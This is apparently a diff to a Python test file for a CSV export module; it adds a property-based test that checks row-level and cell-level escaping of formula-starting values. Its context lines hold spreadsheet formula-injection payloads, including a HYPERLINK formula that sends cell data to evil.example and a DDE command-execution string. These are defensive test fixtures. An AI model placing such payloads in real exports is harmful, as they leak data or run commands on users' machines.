@@ -10,13 +10,16 @@ from __future__ import annotations
 
 import csv
 import io
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
 import yaml
 from cli_tools import car, invoke
+from hypothesis import given
+from hypothesis import strategies as st
 
-from scoring.batch import csv_cell
+from scoring.batch import csv_cell, csv_row
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+SUM(1,2)", "-1+cmd|' /C calc'!A0", "@SUM(1)"]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
@@ -41,6 +44,25 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 )
 def test_a_cell(value: str | None, written: str) -> None:
     assert csv_cell(value) == written
+
+
+_cells = st.one_of(
+    st.none(),
+    st.text(max_size=6),
+    st.sampled_from(["=1", "-3.5", "- 3", "\t", "@", "+2", "优"]),
+    st.integers(),
+    st.decimals(allow_nan=False, allow_infinity=False),
+    st.booleans(),
+    st.lists(st.integers(), max_size=2),
+)
+
+
+@given(st.lists(_cells, max_size=12))
+def test_a_row_is_its_cells(values: list[object]) -> None:
+    """csv_row's short cuts give what csv_cell gives, cell by cell."""
+    row = {f"c{i}": v for i, v in enumerate(values)}
+    assert csv_row(row, list(row)) == [csv_cell(v) for v in values]
+    assert csv_row({"a": Decimal("-0"), "b": "-x"}, ["b", "a"]) == ["'-x", "-0"]
 
 
 def test_a_hostile_table_in_a_batch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
